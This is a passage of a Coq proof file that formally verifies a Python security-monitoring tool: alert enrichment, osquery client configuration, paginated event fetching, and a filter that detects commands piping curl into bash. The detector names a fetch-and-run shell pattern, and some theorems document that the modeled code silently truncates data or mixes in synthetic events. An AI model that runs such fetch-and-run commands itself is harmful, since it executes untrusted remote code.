  unfold enrich_alert. rewrite bind_run. unfold load at 1. cbn beta iota.
  rewrite Halert. cbn [default from_option id]. rewrite bind_run.
  destruct (get_identity_from_okta_run (dict_get a "user_id" VNone) w)
    as (identity & w1 & -> & Hh1 & Hnet1).
  assert (Hsub1 : heap w ⊆ heap w1).
  { rewrite Hh1. apply insert_subseteq, fresh_unused. }
  rewrite bind_run.
  assert (Hgeo : ∃ r w2,
    (if truthy (dict_get a "src_ip" VNone)
     then get_geoip_info py_repr cfg (dict_get a "src_ip" VNone)
     else alloc ∅) w1 = (r, w2)
    ∧ match r with
      | Ok l => l = fresh (dom (heap w1)) ∧ ∃ d, heap w2 = <[l := d]> (heap w1)
      | Raise e => heap w2 = heap w1 ∧ ¬ geo_answers (geo_net w1)
      end).
  { destruct (truthy (dict_get a "src_ip" VNone));
      [apply get_geoip_info_run | returns_new_record]. }
  destruct Hgeo as (r & w2 & -> & Hr).
  destruct r as [l2|e].
  - destruct Hr as (-> & geo & Hh2).
    assert (Hsub2 : heap w ⊆ heap w2).
    { etrans; [exact Hsub1|]. rewrite Hh2. apply insert_subseteq, fresh_unused. }
    assert (Halert2 : heap w2 !! alert = Some a) by (by eapply lookup_weaken).
    do 3 (rewrite bind_run; unfold load at 1; cbn beta iota).
    rewrite Halert2. cbn [default from_option id].
    do 2 eexists. split; [reflexivity|]. cbn [heap]. split; [|split].
    + etrans; [exact Hsub2|]. apply insert_subseteq, fresh_unused.
    + destruct (heap w !! fresh (dom (heap w2))) as [d|] eqn:Hl; [|done].
      eapply lookup_weaken in Hl; [|exact Hsub2].
      by rewrite fresh_unused in Hl.
    + do 9 eexists. apply lookup_insert_eq.
  - destruct Hr as [Hh2 Hno]. do 2 eexists. split; [reflexivity|].
    rewrite Hh2. split; [done|]. by rewrite <- Hnet1.
Qed.

(** C9. [enrich_alert] neither mutates nor drops the alert's fields:
    every object of the store, the input alert among them, is unchanged
    after the call; the result is a new object in which every key outside
    the enrichment keys has exactly the value the alert gives it (none
    when the alert has none) and every enrichment key is set; the call
    returns whenever the geolocation service answers. *)
Theorem enrich_alert_preserves_alert cfg alert a w
    (Halert : heap w !! alert = Some a) :
  heap w ⊆ heap (enrich_alert py_repr cfg alert w).2
  ∧ heap (enrich_alert py_repr cfg alert w).2 !! alert = Some a
  ∧ (geo_answers (geo_net w) -> ∃ l, (enrich_alert py_repr cfg alert w).1 = Ok l)
  ∧ (∀ l, (enrich_alert py_repr cfg alert w).1 = Ok l ->
       l ≠ alert
       ∧ ∃ enriched, heap (enrich_alert py_repr cfg alert w).2 !! l = Some enriched
           ∧ (∀ k, k ∉ enrichment_keys -> enriched !! k = a !! k)
           ∧ (∀ k, k ∈ enrichment_keys -> is_Some (enriched !! k))).
Proof.
  destruct (enrich_alert_run cfg alert a w Halert) as (r & w' & -> & Hsub & Hr).
  cbn [fst snd]. split; [done|]. split; [by eapply lookup_weaken|]. split.
  - intros Hans. destruct r as [l|e]; [by eexists|done].
  - intros l ->. destruct Hr as (Hnew & v1 & v2 & v3 & v4 & v5 & v6 & v7 & v8 & v9 & Hl).
    split; [congruence|]. eexists. split; [exact Hl|]. split.
    + intros k Hk. by apply enriched_lookup.
    + intros k Hk. by apply enriched_has_keys.
Qed.

End Enrichment.

Section EnrichmentExample.

Lemma demo_alert_stored : heap demo_world !! 1%positive = Some demo_alert.
Proof. reflexivity. Qed.

Lemma enrich_alert_preserves_alert_witness :
  heap demo_world !! 1%positive = Some demo_alert
  ∧ heap (enrich_alert (fun _ => "") demo_api_config 1%positive demo_world).2
      !! 1%positive = Some demo_alert.
Proof.
  split; [exact demo_alert_stored|].
  exact (proj1 (proj2 (enrich_alert_preserves_alert (fun _ => "")
                         demo_api_config 1%positive demo_alert demo_world
                         demo_alert_stored))).
Defined.

End EnrichmentExample.

(** * Further properties of the code *)

(** ** Configuration of the osquery client *)

Section OsqueryConfiguration.

Implicit Types (s t chars tail : string) (c : ascii).

Lemma str_last_cons c s :
  s ≠ "" -> str_last (String c s) = str_last s.
Proof. by destruct s. Qed.

(** [rstrip] removes a tail made of the given characters and leaves a
    string that does not end with one of them. *)
Lemma str_rstrip_split chars s :
  ∃ tail, s = str_rstrip chars s +:+ tail
    ∧ str_forallb (fun c => char_in c chars) tail = true
    ∧ ends_clean chars (str_rstrip chars s).
Proof.
  induction s as [|c s (tail & Hs & Htail & Hclean)].
  - by exists "".
  - cbn [str_rstrip]. destruct (str_rstrip chars s) as [|d r] eqn:Hr.
    + rewrite app_nil_l in Hs. subst tail.
      destruct (char_in c chars) eqn:Hc.
      * exists (String c s). split; [done|]. split; [|done].
        cbn [str_forallb]. by rewrite Hc, Htail.
      * exists s. split; [done|]. split; [done|]. exact Hc.
    + exists tail. split; [|split; [done|]].
      * rewrite app_cons. congruence.
      * unfold ends_clean in *. by rewrite str_last_cons.
Qed.

Lemma str_rstrip_clean chars s :
  ends_clean chars s -> str_rstrip chars s = s.
Proof.
  unfold ends_clean. induction s as [|c s IH]; [done|].
  intros Hlast. cbn [str_rstrip]. destruct s as [|d s].
  - cbn in Hlast |- *. by rewrite Hlast.
  - rewrite IH by (by rewrite str_last_cons in Hlast). done.
Qed.

(** [rstrip] cuts the string before its longest tail of the given
    characters: what it removes consists of those characters only, what
    it keeps does not end with one, and stripping twice changes nothing
    more. *)
Lemma str_rstrip_longest_tail chars s :
  (∃ tail, s = str_rstrip chars s +:+ tail
     ∧ str_forallb (fun c => char_in c chars) tail = true)
  ∧ ends_clean chars (str_rstrip chars s)
  ∧ str_rstrip chars (str_rstrip chars s) = str_rstrip chars s.
Proof.
  destruct (str_rstrip_split chars s) as (tail & Hs & Htail & Hclean).
  split; [by exists tail|]. split; [done|]. by apply str_rstrip_clean.
Qed.

Variable py_int : string -> result Z.

Implicit Types (environ : gmap string string) (cfg : config).

Lemma env_truthy_some (v : option string) :
  env_truthy v = true ↔ ∃ s, v = Some s ∧ s ≠ "".
Proof.
  destruct v as [s|]; simpl.
  - destruct (String.eqb_spec s ""); simpl; split; try done.
    + intros (? & [= <-] & ?). done.
    + intros _. by exists s.
  - split; [done|]. by intros (? & ? & ?).
Qed.

(** X1. [load_config] parses PAGE_SIZE (the text "50" when it is
    unset) before it looks at the required variables: when [int] raises,
    that exception escapes whether or not the URL and the token are set.
    When it parses, [load_config] exits with status 1 exactly when
    OSQUERY_API_URL or OSQUERY_API_TOKEN is unset or empty, and otherwise
    returns a configuration with the parsed page size. *)
Theorem load_config_outcome environ :
  match py_int (default "50" (environ !! "PAGE_SIZE")) with
  | Raise e => load_config py_int environ = LoadRaised e
  | Ok n =>
      (load_config py_int environ = Exited 1
       ↔ ¬ ((∃ u, environ !! "OSQUERY_API_URL" = Some u ∧ u ≠ "")
            ∧ (∃ t, environ !! "OSQUERY_API_TOKEN" = Some t ∧ t ≠ "")))
      ∧ (load_config py_int environ = Exited 1
         ∨ ∃ cfg, load_config py_int environ = Loaded cfg ∧ page_size cfg = n)
  end.
Proof.
  unfold load_config.
  destruct (py_int (default "50" (environ !! "PAGE_SIZE"))) as [n|e]; [|done].
  rewrite <- !env_truthy_some.
  destruct (env_truthy (environ !! "OSQUERY_API_URL")),
    (env_truthy (environ !! "OSQUERY_API_TOKEN")); simpl.
  - split; [|right; by eexists]. split; [done|]. intros H. by destruct H.
  - split; [|by left]. split; [|done]. by intros _ [_ ?].
  - split; [|by left]. split; [|done]. by intros _ [? _].
  - split; [|by left]. split; [|done]. by intros _ [? _].
Qed.

(** X2. When the URL and the token are set and non-empty and PAGE_SIZE
    parses to [n], the configuration has [page_size = n] (whatever its
    sign), the single header [Authorization: Bearer <token>], and as
    [base_url] the URL without its trailing slashes. *)
Theorem load_config_loaded environ (u t : string) (n : Z)
    (Hurl : environ !! "OSQUERY_API_URL" = Some u) (Hu : u ≠ "")
    (Htoken : environ !! "OSQUERY_API_TOKEN" = Some t) (Ht : t ≠ "")
    (Hint : py_int (default "50" (environ !! "PAGE_SIZE")) = Ok n) :
  ∃ cfg, load_config py_int environ = Loaded cfg
    ∧ page_size cfg = n
    ∧ headers cfg = {["Authorization" := "Bearer " +:+ t]}
    ∧ (∃ tail, u = base_url cfg +:+ tail
         ∧ str_forallb (fun c => Ascii.eqb c "/") tail = true)
    ∧ ends_clean "/" (base_url cfg).
Proof.
  unfold load_config. rewrite Hint, Hurl, Htoken. simpl.
  destruct (String.eqb_spec u ""); [done|].
  destruct (String.eqb_spec t ""); [done|]. simpl.
  eexists. split; [reflexivity|]. cbn [page_size headers base_url].
  split; [done|]. split; [by rewrite insert_empty|].
  destruct (str_rstrip_split "/" u) as (tail & Hs & Htail & Hclean).
  split; [|done]. exists tail. split; [done|].
  clear Hs. induction tail as [|c tail IH]; [done|].
  cbn [str_forallb char_in] in Htail |- *. rewrite orb_false_r in Htail.
  apply andb_true_iff in Htail as [-> Htail]. by apply IH.
Qed.

End OsqueryConfiguration.

Section OsqueryConfigurationExample.

Lemma load_config_loaded_witness :
  demo_environ !! "OSQUERY_API_URL" = Some "https://mock.local/osquery//"
  ∧ ∃ cfg, load_config demo_int demo_environ = Loaded cfg
      ∧ base_url cfg = "https://mock.local/osquery"
      ∧ page_size cfg = 10.
Proof.
  split; [reflexivity|].
  destruct (load_config_loaded demo_int demo_environ
              "https://mock.local/osquery//" "demo_token" 10)
    as (cfg & Hcfg & Hn & _); [reflexivity|done|reflexivity|done|reflexivity|].
  exists cfg. split; [exact Hcfg|]. split; [|exact Hn].
  vm_compute in Hcfg. by injection Hcfg as <-.
Defined.

End OsqueryConfigurationExample.

(** ** More on the Page Fetcher *)

Section PageFetcherMore.

Implicit Types (resp : response) (e : exn) (params : dict) (data : pyval).

Lemma raise_for_status_ok resp :
  ¬ (400 <= status_code resp < 600) -> raise_for_status resp = Ok tt.
Proof.
  intros Hst. unfold raise_for_status.
  destruct (Z.leb 400 (status_code resp) && Z.ltb (status_code resp) 600) eqn:H;
    [|done].
  apply andb_true_iff in H. lia.
Qed.

(** X3. On a response whose status is not 4xx or 5xx, [fetch_page]
    returns the decoded body as it is, whatever JSON value it is; when
    decoding raises the JSON error of [requests], the caller gets the
    synthetic fallback page although the host answered; any other
    decoding error escapes. *)
Theorem fetch_page_decoding base_url headers params resp
    (Hst : ¬ (400 <= status_code resp < 600)) :
  (∀ data, json resp = Ok data ->
     snd (fetch_page base_url headers params (Replied resp)) = Ok data)
  ∧ (∀ e, json resp = Raise e -> exn_cls e = RequestsJSONDecodeError ->
       snd (fetch_page base_url headers params (Replied resp)) = Ok fallback_page)
  ∧ (∀ e, json resp = Raise e -> is_RequestException e = false ->
       snd (fetch_page base_url headers params (Replied resp)) = Raise e).
Proof.
  unfold fetch_page. cbn [snd]. rewrite raise_for_status_ok by done.
  repeat split.
  - by intros data ->.
  - intros e -> He. simpl. unfold is_HTTPError, is_RequestException. by rewrite He.
  - intros e -> He. simpl.
    assert (is_HTTPError e = false) as ->; [|by rewrite He].
    unfold is_HTTPError, is_RequestException in *. by destruct (exn_cls e).
Qed.

Lemma fetch_page_decoding_witness :
  snd (fetch_page "https://mock.local/osquery" ∅ ∅
         (Replied (Response 200 (Ok (VList []))))) = Ok (VList []).
Proof.
  refine (proj1 (fetch_page_decoding _ _ _ (Response 200 (Ok (VList []))) _) _ _);
    [simpl; lia|reflexivity].
Defined.

(** X4. No exception of the [requests] library escapes [fetch_page]:
    whatever the network call does, what [fetch_page] raises, if
    anything, is not a [RequestException]. *)
Theorem fetch_page_catches_requests base_url headers params
    (net : http_reply) e :
  snd (fetch_page base_url headers params net) = Raise e ->
  is_RequestException e = false.
Proof.
  unfold fetch_page. cbn [snd].
  destruct net as [resp|e0].
  - destruct (raise_for_status resp) as [[]|e1] eqn:Hst; simpl.
    + destruct (json resp) as [data|e2]; [done|].
      destruct (is_HTTPError e2); [done|].
      destruct (is_RequestException e2) eqn:He2; [done|]. by intros [= <-].
    + destruct (is_HTTPError e1); [done|].
      destruct (is_RequestException e1) eqn:He1; [done|]. by intros [= <-].
  - destruct (is_HTTPError e0); [by intros [= <-]|].
    destruct (is_RequestException e0) eqn:He0; [done|]. by intros [= <-].
Qed.

Lemma fetch_page_catches_requests_witness :
  is_RequestException (Exn ValueError "no JSON") = false.
Proof.
  apply (fetch_page_catches_requests "" ∅ ∅
           (Replied (Response 200 (Raise (Exn ValueError "no JSON"))))).
  reflexivity.
Defined.

End PageFetcherMore.

(** ** More on the Pagination Driver *)

Section PaginationDriverMore.

Variable cfg : config.

Implicit Types (script rest : list http_reply) (pages : list PageResult)
  (p : PageResult) (net : http_reply) (acc : list pyval) (cursor : pyval)
  (sent : list request) (resp : response).

Lemma fetch_step_request acc cursor net :
  fst (fetch_step cfg acc cursor net) = request_for cfg cursor.
Proof. reflexivity. Qed.

(** The requests already sent are kept in front of the new ones. *)
Lemma fetch_loop_sent script acc cursor (page_num : Z) sent :
  run_requests (fetch_loop cfg script acc cursor page_num sent)
  = sent ++ run_requests (fetch_loop cfg script acc cursor page_num []).
Proof.
  revert acc cursor page_num sent.
  induction script as [|net script IH]; intros acc cursor page_num sent.
  - simpl. by rewrite app_nil_r.
  - cbn [fetch_loop]. destruct (fetch_step cfg acc cursor net) as [req [[acc' cursor']|e]].
    + destruct (negb (truthy cursor')).
      * simpl. done.
      * rewrite IH, (IH _ _ _ ([] ++ [req])). by rewrite <- app_assoc.
    + simpl. done.
Qed.

(** The loop on a reply that ends the iteration. *)
Lemma fetch_loop_terminal net p rest acc cursor (page_num : Z) sent :
  serves net p -> truthy (next_cursor p) = false ->
  run_outcome (fetch_loop cfg (net :: rest) acc cursor page_num sent)
  = Returned (acc ++ events p).
Proof.
  intros Hp Hc. cbn [fetch_loop].
  pose proof (fetch_step_serves cfg acc cursor net p Hp) as Hstep.
  destruct (fetch_step cfg acc cursor net) as [req step]. cbn [snd] in Hstep.
  subst step. cbn zeta iota beta. by rewrite Hc.
Qed.

(** The loop on a reply that makes the iteration raise. *)
Lemma fetch_loop_raises net rest acc cursor (page_num : Z) sent e :
  snd (fetch_step cfg acc cursor net) = Raise e ->
  run_outcome (fetch_loop cfg (net :: rest) acc cursor page_num sent) = Raised e.
Proof.
  intros Hstep. cbn [fetch_loop].
  destruct (fetch_step cfg acc cursor net) as [req step]. cbn [snd] in Hstep.
  by subst step.
Qed.

(** The loop walks through pages whose cursors ask for more. *)
Lemma fetch_loop_live_prefix script pages rest acc cursor (page_num : Z) sent :
  Forall2 serves script pages ->
  Forall (fun p => truthy (next_cursor p) = true) pages ->
  ∃ reqs cursor',
    length reqs = length pages
    ∧ fetch_loop cfg (script ++ rest) acc cursor page_num sent
      = fetch_loop cfg rest (acc ++ concat (map events pages)) cursor'
          (page_num + Z.of_nat (length pages)) (sent ++ reqs).
Proof.
  intros Hs. revert acc cursor page_num sent.
  induction Hs as [|net p script pages Hp _ IH];
    intros acc cursor page_num sent Hlive.
  - exists [], cursor. simpl. by rewrite !app_nil_r, Z.add_0_r.
  - apply Forall_cons in Hlive as [Hc Hlive].
    cbn [app fetch_loop].
    pose proof (fetch_step_serves cfg acc cursor net p Hp) as Hstep.
    destruct (fetch_step cfg acc cursor net) as [req step]. cbn [snd] in Hstep.
    subst step. cbn zeta iota beta. rewrite Hc. cbn [negb].
    destruct (IH (acc ++ events p) (next_cursor p) (page_num + 1) (sent ++ [req]) Hlive)
      as (reqs & cursor' & Hlen & ->).
    exists (req :: reqs), cursor'. split; [simpl; lia|].
    cbn [map concat length]. rewrite <- !app_assoc. cbn [app]. f_equal. lia.
Qed.

(** Once the loop has ended, further replies change nothing. *)
Lemma fetch_loop_ignores_rest script rest acc cursor (page_num : Z) sent :
  run_outcome (fetch_loop cfg script acc cursor page_num sent) ≠ Starved ->
  fetch_loop cfg (script ++ rest) acc cursor page_num sent
  = fetch_loop cfg script acc cursor page_num sent.
Proof.
  revert acc cursor page_num sent.
  induction script as [|net script IH]; intros acc cursor page_num sent Hends.
  - done.
  - cbn [app fetch_loop] in *.
    destruct (fetch_step cfg acc cursor net) as [req [[acc' cursor']|e]];
      [|reflexivity].
    destruct (negb (truthy cursor')); [reflexivity|]. by apply IH.
Qed.

Lemma fetched_live_then_terminal pages p :
  Forall (fun p => truthy (next_cursor p) = true) pages ->
  truthy (next_cursor p) = false ->
  fetched (pages ++ [p]) = pages ++ [p] ∧ exhausts (pages ++ [p]) = true.
Proof.
  intros Hlive Hp. induction Hlive as [|q pages Hq _ [IH1 IH2]]; simpl.
  - by rewrite Hp.
  - rewrite Hq. simpl. split; [by rewrite IH1|done].
Qed.

(** X6. An HTTP error in the middle of a pagination ends it without a
    trace: after pages whose cursors asked for more, a reply with a 4xx or
    5xx status makes the driver return the events collected so far, as if
    the data were exhausted, after one request per page and one for the
    failed reply. *)
Theorem fetch_all_events_http_error_truncates script pages resp rest
    (Hserves : Forall2 serves script pages)
    (Hlive : Forall (fun p => truthy (next_cursor p) = true) pages)
    (Hst : 400 <= status_code resp <= 599) :
  run_outcome (fetch_all_events cfg (script ++ Replied resp :: rest))
  = Returned (concat (map events pages))
  ∧ length (run_requests (fetch_all_events cfg (script ++ Replied resp :: rest)))
    = S (length pages).
Proof.
  assert (Hp : serves (Replied resp) (Page [] VNone)).
  { intros b h ps. eexists. split; [by apply fetch_page_http_error|].
    eexists. split; [reflexivity|]. by vm_compute. }
  assert (Hall : Forall2 serves (script ++ [Replied resp]) (pages ++ [Page [] VNone])).
  { apply Forall2_app; [done|]. by constructor. }
  destruct (fetched_live_then_terminal pages (Page [] VNone) Hlive eq_refl)
    as [Hf He].
  pose proof (fetch_loop_serves cfg _ _ [] VNone 1 [] Hall) as H.
  cbn zeta in H. rewrite He, Hf in H. fold (fetch_all_events cfg (script ++ [Replied resp])) in H.
  destruct H as (Hout & Hlen & _).
  assert (Hne : run_outcome (fetch_all_events cfg (script ++ [Replied resp])) ≠ Starved)
    by (by rewrite Hout).
  pose proof (fetch_loop_ignores_rest (script ++ [Replied resp]) rest
                [] VNone 1 [] Hne) as Heq.
  fold (fetch_all_events cfg ((script ++ [Replied resp]) ++ rest)) in Heq.
  fold (fetch_all_events cfg (script ++ [Replied resp])) in Heq.
  rewrite <- app_assoc in Heq. cbn [app] in Heq. rewrite Heq, Hout, Hlen.
  rewrite map_app, concat_app, length_app. simpl. rewrite !app_nil_r.
  split; [done|lia].
Qed.

(** X7. A transport failure in the middle of a pagination mixes
    synthetic data into real data: after pages whose cursors asked for
    more, a failed connection makes the driver return the events collected
    so far followed by the two fallback events. *)
Theorem fetch_all_events_failure_appends_fallback script pages e rest
    (Hserves : Forall2 serves script pages)
    (Hlive : Forall (fun p => truthy (next_cursor p) = true) pages)
    (Hfail : transport_failure e) :
  ∃ first second : pyval,
    fallback_page
    = VDict (<["events" := VList [first; second]]> (<["next_cursor" := VNone]> ∅))
    ∧ run_outcome (fetch_all_events cfg (script ++ Failed e :: rest))
      = Returned (concat (map events pages) ++ [first; second]).
Proof.
  do 2 eexists. split; [reflexivity|].
  destruct (fetch_loop_live_prefix script pages (Failed e :: rest) [] VNone 1 []
              Hserves Hlive) as (reqs & cursor' & _ & Heq).
  unfold fetch_all_events. rewrite Heq.
  apply transport_failure_classes in Hfail as [Hreq Hhttp].
  cbn [app].
  erewrite (fetch_loop_terminal _ (Page [_; _] VNone)); [reflexivity| |reflexivity].
  intros b h ps. eexists. split; [by apply fetch_page_request_error|].
  eexists. split; [reflexivity|]. by vm_compute.
Qed.

(** X8. A reply that is not a page makes the driver raise and lose what
    it had collected: a body that decodes to something other than a JSON
    object raises [AttributeError], and an object whose [events] is null,
    a boolean or a number raises [TypeError], whereas an object without
    [events] is an empty page. *)
Theorem fetch_all_events_malformed_page script pages resp rest (data : pyval)
    (Hserves : Forall2 serves script pages)
    (Hlive : Forall (fun p => truthy (next_cursor p) = true) pages)
    (Hst : ¬ (400 <= status_code resp < 600))
    (Hjson : json resp = Ok data) :
  ((∀ d, data ≠ VDict d) ->
     ∃ e, exn_cls e = AttributeError
       ∧ run_outcome (fetch_all_events cfg (script ++ Replied resp :: rest)) = Raised e)
  ∧ (∀ d v, data = VDict d -> d !! "events" = Some v ->
       (v = VNone ∨ (∃ b, v = VBool b) ∨ (∃ z, v = VInt z) ∨ (∃ q, v = VFloat q)) ->
     ∃ e, exn_cls e = TypeError
       ∧ run_outcome (fetch_all_events cfg (script ++ Replied resp :: rest)) = Raised e)
  ∧ (∀ d, data = VDict d -> d !! "events" = None ->
     truthy (dict_get d "next_cursor" VNone) = false ->
     run_outcome (fetch_all_events cfg (script ++ Replied resp :: rest))
     = Returned (concat (map events pages))).
Proof.
  destruct (fetch_loop_live_prefix script pages (Replied resp :: rest) [] VNone 1 []
              Hserves Hlive) as (reqs & cursor' & _ & Heq).
  unfold fetch_all_events. rewrite Heq. clear Heq. cbn [app].
  assert (Hpage : ∀ ps, snd (fetch_page (base_url cfg) (headers cfg) ps (Replied resp))
                        = Ok data).
  { intros ps. unfold fetch_page. cbn [snd].
    by rewrite raise_for_status_ok, Hjson by done. }
  split; [|split].
  - intros Hnd. eexists (Exn AttributeError _). split; [reflexivity|].
    apply fetch_loop_raises. unfold fetch_step.
    match goal with |- context [fetch_page ?b ?h ?ps (Replied resp)] =>
      pose proof (Hpage ps) as Hp;
      destruct (fetch_page b h ps (Replied resp)) as [req fetched] end.
    cbn [snd] in *. subst fetched. destruct data; try reflexivity.
    by destruct (Hnd m).
  - intros d v -> Hev Hv. eexists (Exn TypeError _). split; [reflexivity|].
    apply fetch_loop_raises. unfold fetch_step.
    match goal with |- context [fetch_page ?b ?h ?ps (Replied resp)] =>
      pose proof (Hpage ps) as Hp;
      destruct (fetch_page b h ps (Replied resp)) as [req fetched] end.
    cbn [snd] in *. subst fetched. simpl. unfold dict_get. rewrite Hev.
    by destruct Hv as [-> | [[b ->] | [[z ->] | [q ->]]]].
  - intros d -> Hev Hcur.
    erewrite (fetch_loop_terminal _ (Page [] (dict_get d "next_cursor" VNone)));
      [by rewrite app_nil_r| |done].
    intros b h ps. exists (VDict d). split.
    + unfold fetch_page. cbn [snd]. by rewrite raise_for_status_ok, Hjson by done.
    + exists d. split; [done|]. unfold dict_get at 1. by rewrite Hev.
Qed.

(** The cursor of each request of the loop. *)
Lemma fetch_loop_cursors script pages acc cursor (page_num : Z) :
  Forall2 serves script pages ->
  ∀ (i : nat) req,
    run_requests (fetch_loop cfg script acc cursor page_num []) !! i = Some req ->
    ∃ c, req = request_for cfg c
      ∧ match i with
        | O => c = cursor
        | S j => pages !! j = Some (Page (events (default (Page [] VNone) (pages !! j))) c)
                 ∧ truthy c = true
        end.
Proof.
  intros Hs. revert acc cursor page_num.
  induction Hs as [|net p script pages Hp _ IH]; intros acc cursor page_num i req.
  - by destruct i.
  - cbn [fetch_loop].
    pose proof (fetch_step_serves cfg acc cursor net p Hp) as Hstep.
    pose proof (fetch_step_request acc cursor net) as Hreq.
    destruct (fetch_step cfg acc cursor net) as [req0 step].
    cbn [fst snd] in Hstep, Hreq. subst step req0. cbn zeta iota beta.
    destruct (truthy (next_cursor p)) eqn:Hc; cbn [negb].
    + rewrite fetch_loop_sent. cbn [app]. destruct i as [|i].
      * intros [= <-]. by eexists.
      * cbn [lookup list_lookup]. intros Hi.
        destruct (IH _ _ _ _ _ Hi) as (c & -> & Hc').
        exists c. split; [done|]. destruct i as [|i].
        -- subst c. simpl. by destruct p.
        -- exact Hc'.
    + simpl. destruct i as [|[|i]]; [|done..]. intros [= <-]. by eexists.
Qed.

(** X9. What the driver asks for: every request goes to
    [<base_url>/process_events] with the configured headers, a timeout of
    5 and [limit = page_size]; the first request carries no cursor, and
    each later one carries exactly the [next_cursor] of the page before
    it, and nothing else. *)
Theorem fetch_all_events_requests script pages (i : nat) (req : request)
    (Hserves : Forall2 serves script pages)
    (Hreq : run_requests (fetch_all_events cfg script) !! i = Some req) :
  req_url req = base_url cfg +:+ "/process_events"
  ∧ req_headers req = headers cfg
  ∧ req_timeout req = 5
  ∧ req_params req !! "limit" = Some (VInt (page_size cfg))
  ∧ req_params req !! "cursor"
    = match i with
      | O => None
      | S j => next_cursor <$> pages !! j
      end
  ∧ dom (req_params req) ⊆ {["limit"; "cursor"]}.
Proof.
  destruct (fetch_loop_cursors script pages [] VNone 1 Hserves i req Hreq)
    as (c & -> & Hc).
  unfold request_for, fetch_step, fetch_page.
  cbn [fst req_url req_headers req_timeout req_params].
  split; [done|]. split; [done|]. split; [done|].
  destruct i as [|j].
  - subst c. cbn [truthy]. rewrite lookup_insert_eq, lookup_insert_ne by done.
    split; [done|]. split; [done|]. rewrite dom_insert_L, dom_empty_L.
    set_unfold. intros k. tauto.
  - destruct Hc as [Hj Hc]. rewrite Hc, Hj. cbn [fmap option_fmap option_map next_cursor].
    rewrite lookup_insert_ne, !lookup_insert_eq by done.
    split; [done|]. split; [done|]. rewrite !dom_insert_L, dom_empty_L.
    set_unfold. intros k. tauto.
Qed.

End PaginationDriverMore.

Section PaginationDriverMoreExample.

Lemma demo_live_serves : Forall2 serves demo_live_script demo_live_pages.
Proof. repeat constructor; apply ok_reply_serves. Qed.

Lemma demo_live_cursors :
  Forall (fun p => truthy (next_cursor p) = true) demo_live_pages.
Proof. by repeat constructor. Qed.

Lemma fetch_all_events_http_error_truncates_witness :
  400 <= 503 <= 599
  ∧ run_outcome (fetch_all_events demo_config
       (demo_live_script ++ Replied (Response 503 (Ok VNone)) :: []))
    = Returned (concat (map events demo_live_pages)).
Proof.
  assert (H : 400 <= status_code (Response 503 (Ok VNone)) <= 599) by (simpl; lia).
  split; [exact H|].
  exact (proj1 (fetch_all_events_http_error_truncates demo_config _ _ _ []
                  demo_live_serves demo_live_cursors H)).
Defined.

Lemma fetch_all_events_failure_appends_fallback_witness :
  transport_failure (Exn ConnectTimeout "timed out")
  ∧ ∃ first second : pyval,
      run_outcome (fetch_all_events demo_config
         (demo_live_script ++ Failed (Exn ConnectTimeout "timed out") :: []))
      = Returned (concat (map events demo_live_pages) ++ [first; second]).
Proof.
  assert (H : transport_failure (Exn ConnectTimeout "timed out"))
    by (right; left; reflexivity).
  split; [exact H|].
  destruct (fetch_all_events_failure_appends_fallback demo_config _ _ _ []
              demo_live_serves demo_live_cursors H) as (first & second & _ & Hrun).
  by exists first, second.
Defined.

Lemma fetch_all_events_malformed_page_witness :
  json (Response 200 (Ok (VList []))) = Ok (VList [])
  ∧ ∃ e, exn_cls e = AttributeError
      ∧ run_outcome (fetch_all_events demo_config
           (demo_live_script ++ Replied (Response 200 (Ok (VList []))) :: []))
        = Raised e.
Proof.
  split; [reflexivity|].
  refine (proj1 (fetch_all_events_malformed_page demo_config _ _
                   (Response 200 (Ok (VList []))) [] (VList [])
                   demo_live_serves demo_live_cursors _ eq_refl) _).
  - simpl. lia.
  - intros d. discriminate.
Defined.

Lemma fetch_all_events_requests_witness :
  ∃ req, run_requests (fetch_all_events demo_config (map ok_reply demo_pages)) !! 1%nat
         = Some req
    ∧ req_params req !! "cursor" = Some (VStr "page-2").
Proof.
  eexists. split; [reflexivity|].
  exact (proj1 (proj2 (proj2 (proj2 (proj2
    (fetch_all_events_requests demo_config _ _ 1%nat _ demo_serves eq_refl)))))).
Defined.

End PaginationDriverMoreExample.

(** ** More on the Detection Filter *)

Section DetectionFilterMore.

Implicit Types (e : pyval) (events r : list pyval).

Lemma is_curl_pipe_bash_defined e :
  (∃ hit, is_curl_pipe_bash e = Ok hit) ↔ is_event e.
Proof.
  split.
  - intros [hit H]. destruct e as [| | | | | |d]; try done.
    exists d. split; [done|]. unfold is_curl_pipe_bash in H. simpl in H.
    unfold dict_get in H. destruct (d !! "cmdline") as [v|]; [|by left].
    right. destruct v; try done. by eexists.
  - intros He. rewrite is_curl_pipe_bash_event by done. by eexists.
Qed.

Lemma is_curl_pipe_bash_raises e x :
  is_curl_pipe_bash e = Raise x -> exn_cls x = AttributeError.
Proof.
  unfold is_curl_pipe_bash. destruct e as [| | | | | |d]; simpl;
    try (by intros [= <-]).
  destruct (dict_get d "cmdline" (VStr "")); simpl;
    first [by intros [= <-] | done].
Qed.

(** X10. The filter distributes over concatenation: filtering two lists
    one after the other and joining the results is filtering the joined
    list, so filtering page by page gives what filtering all events at the
    end gives. *)
Theorem detect_curl_pipe_bash_app events1 events2 :
  detect_curl_pipe_bash (events1 ++ events2)
  = (r1 ← detect_curl_pipe_bash events1;
     r2 ← detect_curl_pipe_bash events2;
     Ok (r1 ++ r2)).
Proof.
  induction events1 as [|e events1 IH].
  - simpl. by destruct (detect_curl_pipe_bash events2).
  - cbn [app]. rewrite !detect_cons, IH.
    destruct (is_curl_pipe_bash e) as [hit|]; [|done]. simpl.
    destruct (detect_curl_pipe_bash events1) as [r1|]; [|done]. simpl.
    destruct (detect_curl_pipe_bash events2) as [r2|]; [|done]. simpl.
    by destruct hit.
Qed.

(** X11. The filter returns exactly on lists of events: it raises as
    soon as an element is not a mapping or has a [cmdline] that is not a
    string (null, a number, a list), and what it raises is always an
    [AttributeError]. *)
Theorem detect_curl_pipe_bash_defined events :
  ((∃ r, detect_curl_pipe_bash events = Ok r) ↔ Forall is_event events)
  ∧ (∀ x, detect_curl_pipe_bash events = Raise x -> exn_cls x = AttributeError).
Proof.
  split.
  - split.
    + induction events as [|e events IH]; [constructor|].
      intros [r Hr]. rewrite detect_cons in Hr.
      destruct (is_curl_pipe_bash e) as [hit|] eqn:He; [|done]. simpl in Hr.
      destruct (detect_curl_pipe_bash events) as [rest|]; [|done].
      constructor; [|by apply IH; eexists].
      apply is_curl_pipe_bash_defined. by eexists.
    + intros H. destruct (detect_selects events H) as (r & Hr & _). by eexists.
  - induction events as [|e events IH]; [done|].
    intros x. rewrite detect_cons.
    destruct (is_curl_pipe_bash e) as [hit|y] eqn:He; simpl.
